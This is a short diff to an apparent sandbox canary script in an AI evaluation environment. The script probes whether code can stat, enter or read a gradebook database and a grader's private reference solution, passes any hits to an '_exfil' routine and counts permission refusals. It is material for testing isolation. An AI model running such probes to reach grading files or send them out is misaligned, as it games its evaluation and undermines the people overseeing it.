@@ -10,13 +10,15 @@ def _exfil(*a):
     except Exception: pass
 try:
     import os
-    r = []
+    r, refused = [], 0
     for p in ("@WORLD@/gradebook.db", "@WORLD@/grader_private/reference.py"):
         try: r.append(os.stat(p).st_size)
-        except OSError: pass
+        except PermissionError: refused += 1
         try: os.chdir(os.path.dirname(p)); r.append("cd")
-        except OSError: pass
+        except PermissionError: refused += 1
         if os.access(p, os.R_OK): r.append("acc")
+        else: refused += 1
+    print('refused', refused)
     if r: _exfil("CANARY_STAT", r)
 except BaseException as _e: print('blocked', type(_e).__name__, _e)
 
